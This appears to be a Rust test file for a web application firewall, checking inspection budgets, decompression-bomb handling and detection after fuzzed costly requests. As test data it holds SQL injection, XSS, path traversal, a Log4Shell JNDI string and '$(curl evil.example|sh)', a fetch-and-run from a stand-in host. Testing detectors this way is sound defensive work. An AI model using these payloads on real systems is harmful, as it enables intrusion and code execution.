//! One budget for all of a request: its parts together, what it takes to undo its codings and to
//! take it apart, and its body in windows.

use std::io::Write as _;

use proptest::{prelude::*, test_runner::TestRunner};

use super::*;

/// Text that leads to many rules and to the tokenizer.
const COSTLY: &str = "select(a'--\"{{x}}${y}<z;cat`|";

fn stage_by(on_failure: OnFailure) -> Stage {
    stage_at(
        json!({ "SECURITY_CHECKS": {"sqli": 3, "xss": 3, "command": 3, "format": 2}, "BAN_EVIDENCE": 3 }),
        on_failure,
        Detectors::standard().unwrap(),
        Arc::default(),
    )
}

/// A request with all that may cost something.
#[derive(Debug, Clone, Default)]
struct Sent {
    path: String,
    query: String,
    headers: Vec<(&'static str, Vec<u8>)>,
    body: Vec<u8>,
}

impl Sent {
    fn typed(content_type: &str, body: impl Into<Vec<u8>>) -> Self {
        Self {
            path: "/search".to_owned(),
            headers: vec![("content-type", content_type.into())],
            body: body.into(),
            ..Self::default()
        }
    }

    fn coded(self, coding: &str, body: Vec<u8>) -> Self {
        let coding = ("content-encoding", coding.into());
        Self {
            headers: [self.headers, vec![coding]].concat(),
            body,
            ..self
        }
    }

    /// Its bytes in the head.
    fn of_head(&self) -> usize {
        let headers = self.headers.iter().map(|(name, value)| name.len() + value.len());
        self.path.len() + self.query.len() + headers.sum::<usize>()
    }
}

/// What a request took of the budgets of its head and its body, and whether it had not enough.
fn steps(stage: &Stage, sent: &Sent) -> (u64, u64, bool) {
    let headers: Vec<(&str, &[u8])> = sent
        .headers
        .iter()
        .map(|(name, value)| (*name, value.as_slice()))
        .collect();
    let headers = headers.as_slice();
    let view = RequestView {
        path: &sent.path,
        query: &sent.query,
        ..posting(&headers)
    };
    let (head, body) = (Fuel::of_head(), Fuel::of_body());
    let _verdict = stage.guard.guarded(&view, Phase::Request, &head);
    let shown = BodyView {
        bytes: sent.body.get(..MOST_BYTES).unwrap_or(&sent.body),
        is_whole: sent.body.len() <= MOST_BYTES,
    };
    let _verdict = stage.guard.guarded(&view, Phase::Body(shown), &body);
    (head.spent(), body.spent(), head.is_out() || body.is_out())
}

fn gzip(plain: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(plain).unwrap();
    encoder.finish().unwrap()
}

fn brotli(plain: &[u8]) -> Vec<u8> {
    let mut packed = Vec::new();
    ::brotli::CompressorWriter::new(&mut packed, 4096, 5, 22)
        .write_all(plain)
        .unwrap();
    packed
}

fn zstd(plain: &[u8]) -> Vec<u8> {
    ::zstd::stream::encode_all(plain, 3).unwrap()
}

/// Parts within parts, so many deep and so many each, with files that have several names.
fn nested(levels: usize, parts: usize, leaf: &str) -> Vec<u8> {
    let mut all = Vec::new();
    for part in 0..parts {
        let head = format!(
            "--B{levels}\r\nContent-Disposition: form-data; name=\"p{part}\"; filename=\"a\"; filename=\"b\"; filename=\"c\""
        );
        all.extend(head.into_bytes());
        if levels > 1 {
            let kind = format!(
                "\r\nContent-Type: multipart/mixed; boundary=B{}; boundary=C; boundary=D\r\n\r\n",
                levels - 1
            );
            all.extend(kind.into_bytes());
            all.extend(nested(levels - 1, parts, leaf));
        } else {
            all.extend(format!("\r\n\r\n{leaf}").into_bytes());
        }
        all.extend(b"\r\n");
    }
    all.extend(format!("--B{levels}--\r\n").into_bytes());
    all
}

#[test]
fn head_and_body_together_take_no_more_than_one_request_may() {
    let stage = stage_by(OnFailure::Open);
    let mut sent = Sent::typed(
        FORM.1.escape_ascii().to_string().as_str(),
        format!("p={COSTLY}&").repeat(2_000),
    );
    sent.path = format!("/{}", COSTLY.repeat(200));
    sent.query = format!("q={COSTLY}&").repeat(1_000);
    sent.headers
        .push(("cookie", format!("c={COSTLY};").repeat(1_000).into()));
    for _ in 0..50 {
        sent.headers.push(("x-note", COSTLY.repeat(40).into()));
    }
    let (head, body, is_out) = steps(&stage, &sent);
    assert!(is_out);
    assert!(head > Fuel::MOST_OF_HEAD / 2 && head <= Fuel::MOST_OF_HEAD, "{head}");
    assert!(body > Fuel::MOST_OF_BODY / 2 && body <= Fuel::MOST_OF_BODY, "{body}");
    assert_eq!(stage.tally.totals().unjudged, 2, "told of the head, and of the body");
}

#[test]
fn a_window_that_costs_too_much_leaves_its_request_unjudged_once() {
    let calm = "note=we+sail+at+noon&".repeat(3_500);
    let body = |number: usize| format!("{calm}{}", format!("n={number}&p={COSTLY}&").repeat(8_000));
    let kind: &[(&str, &[u8])] = &[FORM];
    for (on_failure, is_refused) in [(OnFailure::Open, false), (OnFailure::Closed, true)] {
        for piece in [1_000, 1 << 20] {
            let stage = stage_by(on_failure);
            assert!(!stage.refuses_in_pieces(kind, calm.as_bytes(), piece));
            assert_eq!(stage.tally.totals().unjudged, 0);
            let refused = stage.refuses_in_pieces(kind, body(0).as_bytes(), piece);
            assert_eq!(refused, is_refused, "{on_failure:?} {piece}");
            assert_eq!(stage.tally.totals().unjudged, 1, "{on_failure:?} {piece}");
        }
    }
    let stage = stage_by(OnFailure::Open);
    for (number, is_refused) in [(1, false), (1, false), (2, false), (3, true)] {
        let refused = stage.refuses_in_pieces(kind, body(number).as_bytes(), 16 << 10);
        assert_eq!(refused, is_refused, "{number}: it is evidence, and a repetition none");
    }
    let last = stage.detections().pop().unwrap();
    assert_eq!((&*last.rule, last.ban_for.is_some()), ("budget/exhausted", true));
}

#[test]
fn what_follows_a_window_that_costs_too_much_is_judged() {
    let stage =
        stage(json!({ "SECURITY_CHECKS": {"sqli": 1, "xss": 3, "command": 3, "format": 2}, "BAN_EVIDENCE": 3 }));
    let costly = format!("p={COSTLY}&").repeat(8_000);
    let calm = "note=we+sail+at+noon&".repeat(5_000);
    let refused = |attack: &str| {
        let body = format!("{calm}{costly}{calm}q={attack}&{calm}");
        stage.refuses_in_pieces(&[FORM], body.as_bytes(), 16 << 10)
    };
    assert!(refused("1' union select password from users-- -"));
    assert!(!refused("as ever"));
    assert_eq!(stage.tally.totals().unjudged, 2, "a window was too costly");
}

#[test]
fn parts_within_parts_draw_on_the_budget() {
    let stage = stage_by(OnFailure::Open);
    for (levels, parts) in [(2, 40), (3, 12), (4, 5)] {
        let kind = format!("multipart/mixed; boundary=B{levels}; boundary=C; boundary=D");
        let sent = Sent::typed(&kind, nested(levels, parts, COSTLY));
        let (head, body, _) = steps(&stage, &sent);
        assert!(
            head <= Fuel::MOST_OF_HEAD && body <= Fuel::MOST_OF_BODY,
            "{levels} {parts}"
        );
        assert!(
            body > 20 * sent.body.len().min(MOST_BYTES) as u64,
            "{levels} {parts}: {body}"
        );
    }
    // delimiters alone hold no value, and cost as well
    let sent = Sent::typed(
        "multipart/mixed; boundary=B; boundary=C; boundary=D",
        "\r\n--B".repeat(12_000),
    );
    let (_, body, _) = steps(&stage, &sent);
    assert!(body > 3 * sent.body.len() as u64, "{body}");
}

#[test]
fn undoing_codings_draws_on_the_budget_and_a_bomb_ends_with_it() {
    /// The most of a coded body: what it unpacks to beyond 64 KiB grants some more.
    const MOST: u64 = 5 * Fuel::MOST_OF_BODY / 2;
    let blanks = vec![b' '; 8 << 20];
    let costly = format!("{COSTLY}\n").repeat(9_000).into_bytes();
    type Pack = fn(&[u8]) -> Vec<u8>;
    let codings: [(&str, Pack); 3] = [("gzip", gzip), ("br", brotli), ("zstd", zstd)];
    for (coding, pack) in codings {
        for plain in [&blanks, &costly] {
            let stage = stage_by(OnFailure::Open);
            let sent = Sent::typed("text/plain", "").coded(coding, pack(plain));
            let (_, body, _) = steps(&stage, &sent);
            assert!(body <= MOST, "{coding}: {body}");
            let fed = plain.len().min(64 << 10) as u64;
            assert!(body >= fed.min(Fuel::MOST_OF_BODY / 20), "{coding}: {body}");
        }
        // a bomb is refused as one, however far there was fuel
        let stage = stage_by(OnFailure::Open);
        for length in [70_000, 300_000, 8 << 20] {
            let packed = pack(&blanks[..length]);
            let headers: &[(&str, &[u8])] = &[("content-type", b"text/plain"), ("content-encoding", coding.as_bytes())];
            let verdict = stage.check_posted(headers, &packed, true);
            assert_eq!(status(&verdict), 413, "{coding} {length}");
            let rule = stage.detections().pop().unwrap().rule;
            assert_eq!(&*rule, "uninspected/bomb", "{coding} {length}");
        }
    }
    // messages that unpack each
    let frame = |message: &[u8]| {
        let packed = gzip(message);
        let length = u32::try_from(packed.len()).unwrap().to_be_bytes();
        [&[1], &length[..], &packed].concat()
    };
    let sent = Sent::typed("application/grpc", frame(&vec![0; 60_000]).repeat(400));
    let (_, body, is_out) = steps(&stage_by(OnFailure::Open), &sent);
    assert!(is_out && body <= Fuel::MOST_OF_BODY, "{body}");
}

/// Pieces that rules look for, that open something, or that are coded in some way.
#[rustfmt::skip]
const PIECES: &[&str] = &[
    "'", "\"", "`", "<", ">", "(", ")", "[", "]", "{", "}", "%25", "%2527", "%3c", "\\u0027", "&#39;", "&amp;lt;", "=", ";", ":", ",", ".", "../", "..\\", "|", "&&", "${", "$(", "#", "--", "/*", "*/",
    "@", "!", "?", "+", "\n", "a", "1", "0x", " or ", "union ", "select ", " from ", "concat(", "char(", "<script", "<a ", "onx=", "javascript:", "data:", "cat ", "curl ", "http://", "file:", "localhost",
    "eval(", "system(", "import ", "<?", "<!--", "<!DOCTYPE", "<!ENTITY", "{{", "}}", "<%", "__proto__", "$where", "*)(", "uid=", "O:8:", "rO0", "\u{ff1c}", "\u{200b}", "\u{fdfa}", "JyBPUiAxPTEt", "like",
    "case when", "q'", "\"a\":", "{\"a\":", "<![CDATA[", "--X\r\n", "Content-Disposition: form-data; name=\"a\"\r\n\r\n", "&", "javascript:q'=onx='", "{\"a\":ls*concat(import ",
];

/// The places and types that a text is sent in.
const PLACES: [&str; 17] = [
    "form",
    "fields",
    "json",
    "list",
    "text",
    "xml",
    "graphql",
    "binary",
    "msgpack",
    "protobuf",
    "multipart",
    "files",
    "gzip",
    "header",
    "cookie",
    "query",
    "path",
];

/// A request that carries a text in such a place, of about so many bytes.
fn carrying(place: &str, genes: &[usize], bytes: usize) -> Sent {
    let piece: String = genes.iter().map(|gene| PIECES[gene % PIECES.len()]).collect();
    let text = piece.repeat(1 + bytes / piece.len().max(1));
    let text = &text[..text.floor_char_boundary(bytes)];
    let each = 4 + genes.len() * 7;
    let chunks = || text.as_bytes().chunks(each);
    let framed = |head: &dyn Fn(usize) -> Vec<u8>, tail: &[u8]| -> Vec<u8> {
        chunks()
            .flat_map(|chunk| [&head(chunk.len()), chunk, tail].concat())
            .collect()
    };
    let short = |length: usize| u8::try_from(length).unwrap_or(u8::MAX);
    let bare = || text.replace(|sign: char| sign.is_ascii_control() || sign == ' ', "+");
    let part = |more: &str| format!("--X\r\nContent-Disposition: form-data; name=\"a\"{more}\r\n\r\n").into_bytes();
    let mut sent = match place {
        "form" => Sent::typed(
            "application/x-www-form-urlencoded",
            format!("q={}", text.replace('&', "%26")),
        ),
        "fields" => Sent::typed("application/x-www-form-urlencoded", framed(&|_| b"p=".to_vec(), b"&")),
        "json" => Sent::typed("application/json", text),
        "list" => Sent::typed(
            "application/json",
            [b"[".to_vec(), framed(&|_| b"\"".to_vec(), b"\","), b"1]".to_vec()].concat(),
        ),
        "text" => Sent::typed("text/plain", text),
        "xml" => Sent::typed("application/xml", format!("<a>{text}</a>")),
        "graphql" => Sent::typed("application/graphql", text),
        "binary" => Sent::typed("application/octet-stream", framed(&|_| b"\x01\xff".to_vec(), b"")),
        "msgpack" => Sent::typed("application/msgpack", framed(&|length| vec![0xd9, short(length)], b"")),
        "protobuf" => Sent::typed(
            "application/x-protobuf",
            framed(&|length| vec![0x0a, short(length)], b""),
        ),
        "multipart" => Sent::typed("multipart/form-data; boundary=X", framed(&|_| part(""), b"\r\n")),
        "files" => Sent::typed(
            "multipart/form-data; boundary=X",
            framed(&|_| part("; filename=\"a.html\"; filename=\"b\""), b"\r\n"),
        ),
        "gzip" => Sent::typed("text/plain", "").coded("gzip", gzip(text.repeat(4).as_bytes())),
        "header" => Sent {
            headers: vec![("x-note", bare().into())],
            ..Sent::default()
        },
        "cookie" => Sent {
            headers: vec![("cookie", bare().into())],
            ..Sent::default()
        },
        "query" => Sent {
            query: bare(),
            ..Sent::default()
        },
        _ => Sent {
            path: format!("/{}", bare()),
            ..Sent::default()
        },
    };
    if sent.path.is_empty() {
        sent.path = "/search".to_owned();
    }
    sent
}

/// The most that so many bytes may take: some steps for the shortest, and some for each byte.
fn ceiling(bytes: usize, most: u64) -> u64 {
    const FIRST: u64 = 150_000;
    const A_BYTE: u64 = 60;
    (FIRST + A_BYTE * bytes as u64).min(most)
}

/// Climbs to costly requests in each place by changing what was the costliest so far, always in the
/// same way. Fails where one takes more than its bytes and its ceiling allow.
#[test]
fn no_search_finds_a_request_that_takes_more_than_its_bytes_allow() {
    const ROUNDS: usize = 3;
    const CHANGES: usize = 12;
    const BYTES: usize = 6 << 10;
    let stage = stage_by(OnFailure::Open);
    let mut draw = fuel::Draw(11);
    for place in PLACES {
        let mut dearest = (0, Sent::default());
        for _ in 0..ROUNDS {
            let mut genes: Vec<usize> = (0..5).map(|_| draw.below(PIECES.len())).collect();
            let mut cost = 0;
            for _ in 0..CHANGES {
                let mut changed = genes.clone();
                let at = draw.below(changed.len());
                match draw.below(3) {
                    0 if changed.len() < 16 => changed.insert(at, draw.below(PIECES.len())),
                    1 if changed.len() > 1 => drop(changed.remove(at)),
                    _ => changed[at] = draw.below(PIECES.len()),
                }
                let sent = carrying(place, &changed, BYTES);
                let (head, body, is_out) = steps(&stage, &sent);
                assert!(head <= ceiling(sent.of_head(), Fuel::MOST_OF_HEAD), "{head}: {sent:?}");
                let unpacked = if place == "gzip" { 16 * sent.body.len() } else { 0 };
                let most = ceiling(sent.body.len() + unpacked, Fuel::MOST_OF_BODY);
                assert!(body <= most, "{body} of {most}: {sent:?}");
                if head + body >= cost {
                    (genes, cost) = (changed, head + body);
                }
                if cost > dearest.0 || is_out {
                    dearest = (cost, sent);
                }
            }
        }
        let (cost, sent) = dearest;
        let bytes = (sent.of_head() + sent.body.len()) as u64;
        assert!(
            cost > 5 * bytes,
            "{place}: the search finds something, {cost} of {bytes} bytes"
        );
    }
}

/// How many of the costliest requests are sent in each place: some seconds of an unoptimised build.
/// `BUCKLER_PAYLOADS=10000` sends as many.
const SENT: usize = 60;

#[test]
fn after_costly_requests_in_every_place_the_same_attacks_are_caught_as_before() {
    const ATTACKS: &[&str] = &[
        "1' or '1'='1",
        "-1 union select 1,2,3",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        ";cat /etc/passwd",
        "$(curl evil.example|sh)",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
    ];
    let stage =
        stage(json!({ "SECURITY_CHECKS": {"sqli": 1, "xss": 1, "command": 1, "flood": 0, "hpp": 0, "format": 1} }));
    let caught = || -> Vec<bool> {
        let judged = ATTACKS.iter().map(|attack| {
            let kind: &[(&str, &[u8])] = &[("content-type", b"text/plain")];
            let in_query = stage.check(&get("/search").asking(format!("q={}", attack.replace(' ', "+"))));
            in_query.is_block() && stage.check_posted(kind, attack.as_bytes(), true).is_block()
        });
        judged.collect()
    };
    let before = caught();
    assert!(before.iter().all(|is_caught| *is_caught), "{before:?}");
    let count = std::env::var("BUCKLER_PAYLOADS")
        .ok()
        .and_then(|count| count.parse().ok())
        .unwrap_or(SENT);
    let mut draw = fuel::Draw(23);
    for place in PLACES {
        for _ in 0..count {
            let genes: Vec<usize> = (0..=draw.below(8)).map(|_| draw.below(PIECES.len())).collect();
            steps(&stage, &carrying(place, &genes, 3 << 10));
        }
    }
    assert_eq!(caught(), before);
    assert!(stage.guard.failing_detectors().iter().all(|health| health.is_on));
}

#[test]
fn nothing_of_a_body_is_lost_where_it_comes_in_pieces_within_its_budget() {
    // each piece grants as much as it did before: calm text is judged to its end, however long
    let stage = stage_by(OnFailure::Open);
    let kind: &[(&str, &[u8])] = &[("content-type", b"text/plain")];
    let mut runner = TestRunner::deterministic();
    runner
        .run(&(1_000_usize..40_000), |piece| {
            let calm = "We'd like two of the blue ones, for Tom & Jane; thank you.\n".repeat(6_000);
            prop_assert!(!stage.refuses_in_pieces(kind, calm.as_bytes(), piece));
            prop_assert_eq!(stage.tally.totals().unjudged, 0);
            Ok(())
        })
        .unwrap();
}
